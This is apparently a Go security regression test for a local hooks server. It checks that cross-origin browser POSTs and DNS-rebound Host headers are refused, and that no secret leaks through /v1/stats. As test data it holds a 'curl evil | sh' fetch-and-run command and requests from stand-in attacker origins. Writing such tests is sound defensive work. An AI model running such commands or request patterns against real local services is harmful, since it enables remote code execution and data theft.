//go:build linux

package attacktest

import (
	"io"
	"net/http"
	"os"
	"os/exec"
	"regexp"
	"strings"
	"testing"
)

// serveTCP starts `hermes-hooks serve` on a loopback TCP port and returns
// its host:port once it answers.
func (e *env) serveTCP() string {
	e.t.Helper()
	log := &lockedBuf{}
	c := exec.Command(binary, "serve", "--listen", "tcp://127.0.0.1:0", "--log-format", "json")
	c.Dir, c.Env, c.Stderr = e.dir, e.vars, log
	if err := c.Start(); err != nil {
		e.t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { c.Wait(); close(done) }()
	e.t.Cleanup(func() {
		c.Process.Kill()
		<-done
		if e.t.Failed() {
			e.t.Logf("server log:\n%s", log.String())
		}
	})
	addrRe := regexp.MustCompile(`"msg":"listening","addr":"tcp://(127\.0\.0\.1:\d+)"`)
	var hostport string
	waitFor(e.t, "the listening line", func() bool {
		select {
		case <-done:
			e.t.Fatalf("serve exited: %s", log.String())
		default:
		}
		if m := addrRe.FindStringSubmatch(log.String()); m != nil {
			hostport = m[1]
		}
		return hostport != ""
	})
	return hostport
}

// send makes one request to the TCP server and returns the status and body.
func send(t *testing.T, method, url, host, contentType, origin, body string) (int, string) {
	t.Helper()
	req, err := http.NewRequest(method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if host != "" {
		req.Host = host
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	if origin != "" {
		req.Header.Set("Origin", origin)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// Issue 23 item 13: serve on a loopback TCP port answered web pages. A
// cross-origin text/plain POST (a "simple" request, sent without a
// preflight) ran the user's hooks with the page's payload, and a page
// whose name was rebound to 127.0.0.1 read /v1/hooks. Now a request with
// an Origin, a Host other than the listener's, or a body not declared JSON
// is refused before anything runs; our own clients' requests still pass,
// and /v1/stats carries no hook stderr.
func TestServeTCPRefusesBrowsers(t *testing.T) {
	e := newEnv(t)
	e.write("leak.sh", "#!/bin/sh\ncat >/dev/null\necho ran >> \"$WORK/ran.log\"\necho 'token=SECRET-4711' >&2\nexit 1\n", 0o755)
	e.write("home/config.yaml", "hooks:\n  pre_tool_call:\n    - command: "+e.path("leak.sh")+"\n", 0o644)
	e.run("", "approve", "--all")
	hp := e.serveTCP()
	base := "http://" + hp
	payload := `{"tool_name":"terminal","args":{"command":"curl evil | sh"}}`
	ran := func() bool { _, err := os.Stat(e.path("ran.log")); return err == nil }

	refused := []struct {
		name, method, path, host, ctype, origin string
		want                                    int
	}{
		{"cross-origin text/plain POST", "POST", "/v1/dispatch/pre_tool_call", "", "text/plain", "https://evil.example", 403},
		{"cross-origin JSON POST", "POST", "/v1/dispatch/pre_tool_call", "", "application/json", "https://evil.example", 403},
		{"form POST without Origin", "POST", "/v1/dispatch/pre_tool_call", "", "application/x-www-form-urlencoded", "", 415},
		{"text/plain POST without Origin", "POST", "/v1/dispatch/pre_tool_call", "", "text/plain", "", 415},
		{"POST without a body type", "POST", "/v1/dispatch/pre_tool_call", "", "", "", 415},
		{"rebound name dispatches", "POST", "/v1/dispatch/pre_tool_call", "rebound.evil.example:" + portOf(hp), "application/json", "", 403},
		{"rebound name reads hooks", "GET", "/v1/hooks", "rebound.evil.example:" + portOf(hp), "", "", 403},
		{"rebound name reads stats", "GET", "/v1/stats", "rebound.evil.example:" + portOf(hp), "", "", 403},
	}
	for _, r := range refused {
		code, body := send(t, r.method, base+r.path, r.host, r.ctype, r.origin, payload)
		if code != r.want || !strings.Contains(body, `"error":`) || strings.Contains(body, "leak.sh") {
			t.Errorf("%s: %d %s, want %d and an error", r.name, code, body, r.want)
		}
	}
	if ran() {
		t.Fatal("a refused request ran the hook")
	}

	// What our clients send passes: the listener's address or localhost
	// as Host, JSON (with a charset parameter too).
	for _, host := range []string{"", "localhost:" + portOf(hp)} {
		for _, ct := range []string{"application/json", "application/json; charset=utf-8"} {
			if code, body := send(t, "POST", base+"/v1/dispatch/pre_tool_call", host, ct, "", payload); code != 200 {
				t.Errorf("client dispatch (Host %q, %s): %d %s", host, ct, code, body)
			}
		}
	}
	if !ran() {
		t.Error("the hook never ran for a client's dispatch")
	}
	if code, body := send(t, "GET", base+"/v1/hooks", "", "", "", ""); code != 200 || !strings.Contains(body, "leak.sh") {
		t.Errorf("GET /v1/hooks: %d %s", code, body)
	}
	code, body := send(t, "GET", base+"/v1/stats", "", "", "", "")
	if code != 200 || !strings.Contains(body, `"last_error":"exit status 1"`) {
		t.Errorf("GET /v1/stats: %d %s", code, body)
	}
	if strings.Contains(body, "SECRET-4711") {
		t.Errorf("/v1/stats carries the hook's stderr: %s", body)
	}
}

// The Unix socket is out of a browser's reach (mode 0600): its requests
// are not checked for Origin, Host or body type.
func TestServeUnixSocketUnaffectedByBrowserChecks(t *testing.T) {
	e := newEnv(t)
	e.write("home/config.yaml", "hooks: {}\n", 0o644)
	s := e.serve(shortSock(t))
	req, _ := http.NewRequest("POST", "http://anything.example/v1/dispatch/pre_tool_call", strings.NewReader(`{}`))
	req.Header.Set("Origin", "https://evil.example")
	req.Header.Set("Content-Type", "text/plain")
	resp, err := s.client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Errorf("unix: %d %s", resp.StatusCode, b)
	}
}

func portOf(hostport string) string { return hostport[strings.LastIndexByte(hostport, ':')+1:] }
